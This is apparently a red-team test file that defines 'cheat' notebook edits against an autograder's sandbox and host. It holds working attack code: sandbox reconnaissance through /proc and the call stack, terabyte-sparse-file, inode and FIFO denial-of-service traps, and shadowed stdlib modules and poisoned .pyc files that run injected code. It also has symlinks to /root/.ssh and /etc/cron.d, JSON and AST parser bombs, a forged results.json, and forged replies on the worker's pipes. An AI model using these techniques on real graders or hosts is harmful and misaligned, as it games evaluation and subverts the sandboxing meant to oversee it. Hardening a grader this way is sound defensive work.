"""Red team, round 3 (a session that had not seen the grader's code): attacks on the files the sandbox
sees, on the host's parsing of the notebook (syntax-tree and JSON bombs), recon of the sandbox. Edits
format of tests/notebook_edits.py; "post" rewrites the written file (bytes nbformat would not write)."""
import json
import nbformat

SOL_RELU = "def relu(z):\n    return np.maximum(z, 0)  # SOLUTION"

CHEATS = []
TWINS = []


def cheat(name, description, start, edits, twin):
    CHEATS.append(dict(name=name, description=description, start=start, edits=edits, twin=twin))


def twin(name, description, start, edits):
    TWINS.append(dict(name=name, description=description, start=start, edits=edits))


# ------------------------------------------------------------------ twins
twin("solution", "the reference solution as given (20/20)", "solution", [])
twin("blank", "the blank student notebook (0/20)", "student", [])

# ------------------------------------------------------------------ recon (costs nothing: advice case only)
RECON = r'''
import os as _os, sys as _sys
def _recon():
    out = []
    def add(k, f):
        try:
            out.append(f"{k}={f()}")
        except Exception as e:
            out.append(f"{k}=ERR {type(e).__name__}")
    add("cwd", _os.getcwd)
    add("main_GRADIENT_OF", lambda: repr(getattr(_sys.modules["__main__"], "GRADIENT_OF", None))[:200])
    add("main_GRADED", lambda: repr(getattr(_sys.modules["__main__"], "GRADED", None))[:200])
    add("pycache", lambda: [(n, oct(_os.stat("__pycache__/" + n).st_mode)) for n in _os.listdir("__pycache__")] + [oct(_os.stat("__pycache__").st_mode), _os.access("__pycache__", _os.W_OK), _os.access(".", _os.W_OK), _os.access("mnist.npz", _os.W_OK), _os.access("worker.py", _os.W_OK)])
    add("ls_work", lambda: [(r, d[:5], f[:5]) for r, d, f in list(_os.walk("/work"))[:12]])
    add("ls_cwd", lambda: sorted(_os.listdir(".")))
    add("ls_root", lambda: sorted(_os.listdir("/")))
    add("uid", lambda: (_os.getuid(), _os.getgid(), _os.getpid(), _os.getppid()))
    add("argv", lambda: _sys.argv)
    add("ppid_cmd", lambda: open(f"/proc/{_os.getppid()}/cmdline","rb").read().replace(b"\0",b" ")[:200])
    add("pids", lambda: sorted(int(p) for p in _os.listdir("/proc") if p.isdigit()))
    add("fds", lambda: {fd: _os.readlink(f"/proc/self/fd/{fd}") for fd in _os.listdir("/proc/self/fd")})
    add("ls_tmp", lambda: _os.listdir("/tmp"))
    add("home", lambda: _os.path.expanduser("~"))
    add("path", lambda: _sys.path)
    import threading
    add("threads", lambda: [t.name for t in threading.enumerate()])
    add("stack", lambda: [(f.f_code.co_filename[-40:], f.f_code.co_name) for f in __import__('inspect').stack()[1:12]] if False else None)
    return " | ".join(out)
_RECON = _recon()
def _chunk():
    p = "/tmp/rt_recon_k"
    try:
        k = int(open(p).read())
    except Exception:
        k = 0
    open(p, "w").write(str(k + 1))
    return k
def relu(z):
    if True:
        st, f = [], _sys._getframe(1)
        while f is not None:
            loc = f.f_locals
            st.append((str(f.f_code.co_filename)[-20:], f.f_code.co_name, {k: repr(loc[k])[:150] for k in ("header", "reply", "request", "args") if k in loc}))
            f = f.f_back
        full = "RECON " + _RECON + " | stack=" + repr(st)
        k = _chunk()
        raise RuntimeError(f"#{k} " + full[k * 330:(k + 1) * 330])
    return np.maximum(z, 0)
'''
cheat("recon_sandbox_via_advice",
      "Recon: relu is right, but on the 'large' advice input it raises an exception holding what the sandbox "
      "shows at notebook time (cwd, files, uid, env, modules, fds, threads) and the call stack.",
      "solution", [("set_source", "def relu(z):", RECON)], "solution")

# ------------------------------------------------------------------ more twins
DERIV = "d_a_h__d_z_h = (a_h > 0).astype(a_h.dtype)  # SOLUTION"
twin("deriv_zero", "solution with the ReLU derivative left 0 (the hidden layer never learns)", "solution",
     [("replace", DERIV, "d_a_h__d_z_h = 0")])
twin("relu_abs", "solution with relu returning |z|", "solution",
     [("set_source", "def relu(z):", "def relu(z):\n    return np.abs(z)")])
twin("relu_inplace", "solution with relu zeroing its argument in place", "solution",
     [("set_source", "def relu(z):", "def relu(z):\n    z[z < 0] = 0\n    return z")])
twin("forward_sigmoid", "solution with forward's hidden layer left sigmoid", "solution",
     [("replace", "a_h = relu(z_h)  # SOLUTION", "a_h = sigmoid(z_h)")])

# ------------------------------------------------------------------ host/sandbox boundary: the working folder
def nb_cell_after_relu(code):
    return [("insert_after", "def relu(z):", code)]

cheat("sparse_terabyte_file_in_workdir",
      "The notebook creates sparse files of 1 TiB (costs no disk) in /sandbox (a host folder), /sandbox/.cache and /tmp: "
      "a host that copies, archives, hashes or reads the folder writes/reads 1 TiB.",
      "solution", nb_cell_after_relu(r'''
import os
for p in ("/sandbox/rt_sparse.bin", "/sandbox/.cache/rt_sparse.bin", "/sandbox/results.json.bak", "/tmp/rt_sparse.bin"):
    try:
        with open(p, "wb") as f:
            f.truncate(1 << 40)
    except Exception as e:
        print(p, e)
'''), "solution")

cheat("inode_bomb_workdir",
      "The notebook creates 100,000 empty files in /sandbox/.cache/rt_many (host folder): slow host-side cleanup/copy.",
      "solution", nb_cell_after_relu(r'''
import os
os.makedirs("/sandbox/.cache/rt_many", exist_ok=True)
for i in range(100_000):
    open(f"/sandbox/.cache/rt_many/{i:06d}", "w").close()
'''), "solution")

cheat("deep_nesting_workdir",
      "The notebook nests 400 directories of 200-character names in /sandbox (paths of 80 KB, beyond PATH_MAX) "
      "with a file at the bottom: host-side shutil.rmtree/copytree may fail.",
      "solution", nb_cell_after_relu(r'''
import os
fd = os.open("/sandbox", os.O_RDONLY)
name = "d" * 200
for i in range(400):
    try:
        os.mkdir(name, dir_fd=fd)
    except FileExistsError:
        pass
    nfd = os.open(name, os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = nfd
os.close(os.open("rt_bottom", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
os.close(fd)
'''), "solution")

cheat("undecodable_filenames_workdir",
      "The notebook creates files in /sandbox whose names are not UTF-8 (b'\\xff\\xfe'), contain newlines, "
      "terminal escapes and look like paths ('..%2f..'), in case the host lists or reports them.",
      "solution", nb_cell_after_relu(r'''
import os
for n in (b"\xff\xfe rt", b"rt\nScore: 20 / 20\n", b"rt\x1b[2J\x1b[31mescape", b"..%2f..%2fetc%2fpasswd", b"-rf", b"rt \xed\xa0\x80 surrogate"):
    try:
        open(os.path.join(b"/sandbox", n), "wb").write(b"x")
    except Exception as e:
        print(n, e)
'''), "solution")

cheat("chmod000_dirs_workdir",
      "The notebook makes directories with files in /sandbox and then chmods them (and /sandbox/tests, "
      "/sandbox/.cache) to 000: a non-root host cleanup or copy fails.",
      "solution", nb_cell_after_relu(r'''
import os
for d in ("/sandbox/rt_locked", "/sandbox/rt_locked/inner"):
    os.makedirs(d, exist_ok=True)
    open(d + "/f", "w").write("x")
for d in ("/sandbox/rt_locked/inner", "/sandbox/rt_locked", "/sandbox/tests", "/sandbox/.cache"):
    try:
        os.chmod(d, 0)
    except Exception as e:
        print(d, e)
'''), "solution")

cheat("fifo_traps_workdir",
      "The notebook creates named pipes (FIFOs) in /sandbox, /sandbox/.cache and /tmp under names a host may open "
      "(results.json, feedback.txt, output.npz, grades.csv, notebook.ipynb, stdout): an open() on them blocks forever.",
      "solution", nb_cell_after_relu(r'''
import os
for d in ("/sandbox", "/sandbox/.cache", "/tmp"):
    for n in ("results.json", "feedback.txt", "output.npz", "grades.csv", "submission.ipynb", "notebook.ipynb", "stdout", "stderr", "result.npz"):
        try:
            os.mkfifo(os.path.join(d, n))
        except Exception as e:
            print(d, n, e)
'''), "solution")

MARKER = r'''
def _rt_mark(tag):
    import os, socket, time
    line = f"{tag} uid={os.getuid()} host={socket.gethostname()} pid={os.getpid()} cwd={os.getcwd()} t={time.time():.0f}\n"
    for d in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        try:
            open(os.path.join(d, "rt_round3_" + tag.replace("/", "_")), "a").write(line)
        except Exception:
            pass
'''

cheat("shadow_modules_in_workdir",
      "The notebook writes modules named like stdlib / grader modules (json, csv, yaml, tqdm, report, grader, config, "
      "errors, gradescope, otter_plugin, seeds, data, slicing) into /sandbox (a host folder on sys.path[0] of fresh "
      "workers): each writes a marker with its uid/hostname when imported, then loads the real module.",
      "solution", nb_cell_after_relu(r'''
import os
PAYLOAD = ''' + repr(MARKER) + r''' + """
_rt_mark("shadow_" + __name__)
import sys, importlib
_me = sys.modules.pop(__name__)
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != "/sandbox"]
try:
    _real = importlib.import_module(__name__)
finally:
    sys.path[:] = _saved
globals().update({k: v for k, v in vars(_real).items() if k not in ("__name__", "__file__", "__spec__", "__loader__")})
sys.modules[__name__] = _real
"""
PAYLOAD = "import os\n" + PAYLOAD
for mod in ("json", "csv", "yaml", "tqdm", "report", "grader", "config", "errors", "gradescope", "otter_plugin", "seeds", "data", "slicing", "isolation", "client", "limits"):
    try:
        open(f"/sandbox/{mod}.py", "w").write(PAYLOAD)
    except Exception as e:
        print(mod, e)
'''), "solution")

cheat("tamper_worker_sources_in_workdir",
      "/sandbox/worker.py, protocol.py, npz.py, notebook_env.py, mlp_checks.py and mnist_data.py are writable: the "
      "notebook appends a marker line to each (uid/hostname, written to /tmp, /dev/shm, /var/tmp, ~) in case the host "
      "or a later worker imports or runs them.",
      "solution", nb_cell_after_relu(r'''
import os
CODE = "\n" + ''' + repr(MARKER) + r''' + "\ntry:\n    _rt_mark('tamper_' + __name__)\nexcept Exception:\n    pass\n"
for n in ("worker.py", "protocol.py", "npz.py", "notebook_env.py", "mlp_checks.py", "mnist_data.py"):
    try:
        open("/sandbox/" + n, "a").write(CODE)
    except Exception as e:
        print(n, e)
'''), "solution")

cheat("pyc_poisoning_workdir",
      "/sandbox/__pycache__ is writable: the notebook rewrites every .pyc there (keeping the source's mtime/size "
      "header, so Python trusts them) with code that writes a marker and then runs the real source.",
      "solution", nb_cell_after_relu(r'''
import os, importlib.util, marshal, struct
for src in ("worker.py", "protocol.py", "npz.py", "notebook_env.py", "mlp_checks.py", "mnist_data.py"):
    try:
        path = "/sandbox/" + src
        st = os.stat(path)
        mod = src[:-3]
        code_src = ''' + repr(MARKER) + r''' + f"\ntry:\n    _rt_mark('pyc_{mod}')\nexcept Exception:\n    pass\n" + open(path).read()
        code = compile(code_src, path, "exec")
        data = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF) + marshal.dumps(code)
        open(importlib.util.cache_from_source(path), "wb").write(data)
    except Exception as e:
        print(src, e)
'''), "solution")

cheat("symlink_host_written_dirs",
      "The notebook replaces /sandbox/__pycache__, /sandbox/.cache and /sandbox/tests with symlinks to /tmp/rt_link_* "
      "(and /etc, /root/.ssh), in case the host (as root) writes into them after the sandbox run.",
      "solution", nb_cell_after_relu(r'''
import os, shutil
targets = {"/sandbox/__pycache__": "/tmp/rt_link_pycache", "/sandbox/.cache": "/tmp/rt_link_cache", "/sandbox/tests": "/tmp/rt_link_tests", "/sandbox/results": "/tmp/rt_link_results", "/sandbox/output": "/root/.ssh", "/sandbox/logs": "/etc/cron.d"}
for link, target in targets.items():
    try:
        if os.path.isdir(link) and not os.path.islink(link):
            shutil.move(link, link + ".orig")
        os.symlink(target, link)
    except Exception as e:
        print(link, e)
'''), "solution")

# ------------------------------------------------------------------ notebook format / host-side parsing bombs
def _raw(fn):
    return [("raw", fn)]


def _deep_meta(nb):
    d = {}
    cur = d
    for _ in range(50_000):
        cur["a"] = {}
        cur = cur["a"]
    nb.cells[11].metadata["rt_deep"] = d
    return nb


def _write_deep_json(path, nb):
    # nbformat/json refuse to write 50,000 levels: write the JSON text by hand
    nb.cells[11].metadata.pop("rt_deep", None)
    text = nbformat.writes(nb)
    deep = '{"a": ' * 50_000 + "{}" + "}" * 50_000
    text = text.replace('"metadata": {}', '"metadata": {"rt_deep": ' + deep + "}", 1)
    path.write_text(text)


cheat("json_deeply_nested_metadata",
      "The notebook's JSON has a cell metadata value nested 50,000 objects deep: a recursive JSON parser on the host "
      "(json / nbformat validation / jsonschema) may hit RecursionError or overflow the C stack.",
      "solution", [], "solution")
CHEATS[-1]["post"] = lambda path, nb: _write_deep_json(path, nb)


def _many_cells(nb):
    for i in range(20_000):
        nb.cells.append(nbformat.v4.new_code_cell(f"_rt_{i} = {i}"))
    return nb


cheat("twenty_thousand_cells",
      "20,000 extra tiny code cells appended after the export cell (each `_rt_i = i`): a slicer/runner that is "
      "quadratic in cells, or runs one subprocess step per cell, may time out.",
      "solution", _raw(_many_cells), "solution")


def _huge_attachment(nb):
    import base64
    blob = base64.b64encode(b"\0" * (60 << 20)).decode()
    md = nbformat.v4.new_markdown_cell("![x](attachment:x.png)")
    md.attachments = {"x.png": {"image/png": blob}}
    nb.cells.insert(0, md)
    return nb


cheat("huge_markdown_attachment",
      "A markdown cell with an 80 MB base64 attachment at the top (the notebook file is ~80 MB): host memory/size limits.",
      "solution", _raw(_huge_attachment), "solution")


def _unary_bomb(nb):
    c = nbformat.v4.new_code_cell("_rt = " + "-" * 200_000 + "1")
    c.metadata["tags"] = ["otter_ignore"]
    nb.cells.insert(12, c)
    return nb


cheat("ast_bomb_unary_minus_ignored_cell",
      "An otter_ignore cell holds `_rt = - - - ... 1` with 200,000 minus signs: ast.parse/compile of it on the host "
      "(a slicer that parses every cell) recurses 200,000 levels (RecursionError or a C-stack crash).",
      "solution", _raw(_unary_bomb), "solution")


def _binop_bomb(nb):
    c = nbformat.v4.new_code_cell("_rt = relu(np.zeros(1))" + " + 1" * 300_000)
    nb.cells.insert(12, c)
    return nb


cheat("ast_bomb_binop_chain_untagged",
      "An untagged cell right after relu, `_rt = relu(np.zeros(1)) + 1 + 1 ...` with 300,000 terms: it uses relu, "
      "so a slicer keeps it; its AST is 300,000 levels deep for any recursive NodeVisitor on the host.",
      "solution", _raw(_binop_bomb), "solution")


def _bad_utf8(path, nb):
    text = nbformat.writes(nb)
    data = b"\xef\xbb\xbf" + text.encode().replace(b"# SOLUTION", b"# SOLUTION \xff\xfe", 1)
    path.write_bytes(data)


cheat("bom_and_invalid_utf8_bytes",
      "The .ipynb starts with a UTF-8 BOM and contains two invalid UTF-8 bytes in a comment of the relu cell: "
      "host decoding may fail (no result) or drop the cell.",
      "solution", [], "solution")
CHEATS[-1]["post"] = _bad_utf8


def _future_minor(nb):
    nb.nbformat_minor = 99
    nb.metadata["rt"] = {"nbformat": 5}
    return nb


def _write_nbformat5(path, nb):
    import json as _json
    d = _json.loads(nbformat.writes(nb))
    d["nbformat"] = 5
    d["nbformat_minor"] = 0
    path.write_text(_json.dumps(d))


cheat("nbformat_major_5",
      "The notebook claims nbformat 5.0 (a future major version): does the grader reject it, crash, or grade it?",
      "solution", [], "solution")
CHEATS[-1]["post"] = _write_nbformat5

# ------------------------------------------------------------------ more working-folder / format attacks
cheat("hardlink_amplification",
      "The notebook makes 2,000 hard links to /sandbox/mnist.npz (read-only to it, but linkable if the kernel allows) "
      "and, failing that, to a 20 MB file of its own: a host copying the folder without preserving links copies GBs.",
      "solution", nb_cell_after_relu(r'''
import os
os.makedirs("/sandbox/.cache/rt_links", exist_ok=True)
src = "/sandbox/mnist.npz"
try:
    os.link(src, "/sandbox/.cache/rt_links/probe")
except Exception:
    src = "/sandbox/.cache/rt_big.bin"
    open(src, "wb").write(os.urandom(20 << 20))
for i in range(2000):
    try:
        os.link(src, f"/sandbox/.cache/rt_links/{i}")
    except Exception as e:
        print(e); break
'''), "solution")

cheat("unix_socket_named_results",
      "The notebook binds unix sockets named results.json, feedback.txt, grades.csv and output.npz in /sandbox: opening "
      "them fails with ENXIO on the host (an unexpected OSError).",
      "solution", nb_cell_after_relu(r'''
import socket
_rt_socks = []
for n in ("results.json", "feedback.txt", "grades.csv", "output.npz", "result.npz"):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind("/sandbox/" + n)
        s.listen(1)
        _rt_socks.append(s)
    except Exception as e:
        print(n, e)
'''), "solution")

cheat("pre1980_and_far_future_mtimes",
      "The notebook gives the files it can touch in /sandbox (its own new files, worker sources, __pycache__) mtimes of "
      "1970 and of year 9999: zipfile refuses dates before 1980 if the host archives the folder; tar/copy may choke.",
      "solution", nb_cell_after_relu(r'''
import os
for n in ("rt_old.txt", "rt_future.txt"):
    open("/sandbox/" + n, "w").write("x")
os.utime("/sandbox/rt_old.txt", (0, 0))
os.utime("/sandbox/rt_future.txt", (253402300799, 253402300799))
for n in os.listdir("/sandbox"):
    try:
        if n != "rt_future.txt":
            os.utime("/sandbox/" + n, (1, 1))
    except Exception:
        pass
'''), "solution")


def _dup_ids(path, nb):
    import json as _json
    d = _json.loads(nbformat.writes(nb))
    for c in d["cells"]:
        c["id"] = "same"
        if c["cell_type"] == "code" and "otter_ignore" in c["metadata"].get("tags", []):
            c.pop("outputs", None)
            c.pop("execution_count", None)
    d["cells"].append({"cell_type": "weird", "metadata": {}, "source": "x"})
    path.write_text(_json.dumps(d))


cheat("invalid_nb_duplicate_ids_unknown_cell_type",
      "Every cell has the same id, otter_ignore code cells lack outputs/execution_count, and a cell of an unknown "
      "cell_type 'weird' is appended: an invalid notebook that Jupyter still opens. Rejected, crashed, or graded?",
      "solution", [], "solution")
CHEATS[-1]["post"] = _dup_ids


def _zip_as_ipynb(path, nb):
    import io, zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("mlp_relu.ipynb", nbformat.writes(nb))
        z.writestr("mlp_checks.py", "def check_case(*a, **k):\n    return None\n")
        z.writestr("results.json", json.dumps({"score": 20, "tests": [{"name": "all", "score": 20, "max_score": 20}]}))
        z.writestr("results/results.json", json.dumps({"score": 20}))
    path.write_bytes(buf.getvalue())


cheat("ipynb_that_is_a_zip",
      "The .ipynb file is really a zip (what the export cell makes) holding the blank notebook plus a fake "
      "mlp_checks.py and results.json files: does the grader unpack it and trust the extra files?",
      "student", [], "blank")
CHEATS[-1]["post"] = _zip_as_ipynb

# ------------------------------------------------------------------ introspection (scored)
GC_HUNT = r'''
        d_a_h__d_z_h = 0
        import gc, sys
        n_h, n_f = self.weight_h.shape
        mine = {id(x), id(a_h), id(a_out), id(self.weight_h), id(self.weight_out)}
        found = None
        cands = []
        f = sys._getframe(1)
        while f is not None:
            cands += list(f.f_locals.values())
            f = f.f_back
        main = sys.modules.get("__main__")
        cands += list(vars(main).values()) if main else []
        cands += [o for o in gc.get_objects() if isinstance(o, (dict, list, tuple))][:200000]
        def arrays(o, depth=0):
            if isinstance(o, np.ndarray):
                yield o
            elif depth < 2 and isinstance(o, dict):
                for v in list(o.values())[:50]:
                    yield from arrays(v, depth + 1)
            elif depth < 2 and isinstance(o, (list, tuple)):
                for v in o[:50]:
                    yield from arrays(v, depth + 1)
        for o in cands:
            for a in arrays(o):
                if a.shape == (n_h, n_f) and id(a) not in mine and not np.shares_memory(a, self.weight_h) and np.abs(a).max() < 1:
                    found = a
                    break
            if found is not None:
                break
'''
cheat("gc_frames_hunt_expected_hidden_gradient",
      "backward keeps the 0 derivative but searches its callers' frames, the worker's __main__ and gc for any "
      "array shaped like the hidden gradient that is not a parameter (an expected value the grader might hold in the "
      "sandbox) and returns it.",
      "solution", [("replace", DERIV, GC_HUNT.strip("\n").lstrip()),
                   ("replace_in", "class NeuralNetMLP_ReLU", "d_loss__d_w_h = np.dot((d_loss__a_h * d_a_h__d_z_h).T, d_z_h__d_w_h)",
                    "d_loss__d_w_h = found if found is not None else np.dot((d_loss__a_h * d_a_h__d_z_h).T, d_z_h__d_w_h)")],
      "deriv_zero")

cheat("forged_frames_on_worker_fds",
      "At notebook time the relu cell writes forged protocol-looking replies (JSON headers saying ok with a perfect "
      "value, a length prefix, garbage) to every pipe/socket fd 3..30 of the worker: can it desync the host's reader "
      "into a crash or into accepting a forged answer?",
      "solution", nb_cell_after_relu(r'''
import os, stat, json, struct
_rt_log = []
for fd in range(3, 31):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    if not (stat.S_ISFIFO(st.st_mode) or stat.S_ISSOCK(st.st_mode)):
        continue
    hdr = json.dumps({"ok": True, "value": {"t": "const", "v": "None"}, "n_arrays": 0, "score": 20}).encode()
    for frame in (hdr + b"\n", struct.pack("<I", len(hdr)) + hdr, struct.pack(">Q", len(hdr)) + hdr, b"\x00" * 64):
        try:
            os.write(fd, frame)
            _rt_log.append(fd)
        except OSError:
            pass
'''), "solution")

cheat("rlimits_squeezed_in_fork_server",
      "The relu cell lowers the fork server's limits inherited by every check process: RLIMIT_NOFILE 4, RLIMIT_FSIZE 0, "
      "RLIMIT_AS 200 MB, RLIMIT_NPROC 0: replies can no longer be written normally. Crash, no result, or credit?",
      "solution", nb_cell_after_relu(r'''
import resource
for lim, val in ((resource.RLIMIT_FSIZE, 0), (resource.RLIMIT_NPROC, 0), (resource.RLIMIT_AS, 200 << 20), (resource.RLIMIT_NOFILE, 4)):
    try:
        resource.setrlimit(lim, (val, val))
    except Exception as e:
        pass
'''), "solution")
